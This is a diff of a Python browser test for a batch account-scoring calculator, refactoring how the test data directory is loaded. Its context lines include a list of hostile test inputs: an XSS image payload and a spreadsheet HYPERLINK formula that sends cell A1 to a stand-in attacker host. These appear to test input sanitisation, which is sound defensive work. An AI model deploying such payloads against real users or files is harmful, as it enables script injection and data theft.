@@ -19,13 +19,13 @@ from calculators.batch import TIER_FIELD, run_batch, salesforce_name, score_csv,
 from calculators.batch_table import PAGE_ROWS, Session
 from calculators.inputs import plain
 from calculators.loader import load_data_dir
-from conftest import ROOT
+from conftest import DATA, ROOT
 
 pytestmark = pytest.mark.browser
 
 PAGE = "playbook/prioritise/"
 READY = "form[data-batch][data-calculator-state=ready]"
-PLAYBOOK = load_data_dir(ROOT / "data", "internal")
+PLAYBOOK = load_data_dir(DATA, "internal")
 SAMPLE = (ROOT / "docs" / "playbook" / "sample-accounts.csv").read_text(encoding="utf-8")
 HEAD = "Name,Domain,Industry,Use Case Fit,Commercial Fit,Technical Fit,Strategic Value,Annual Revenue,Annual Budget,Disqualifiers"
 HOSTILE = ['<img src=x onerror=alert(1)>', '=HYPERLINK("http://evil.example/?"&A1,"Click")',
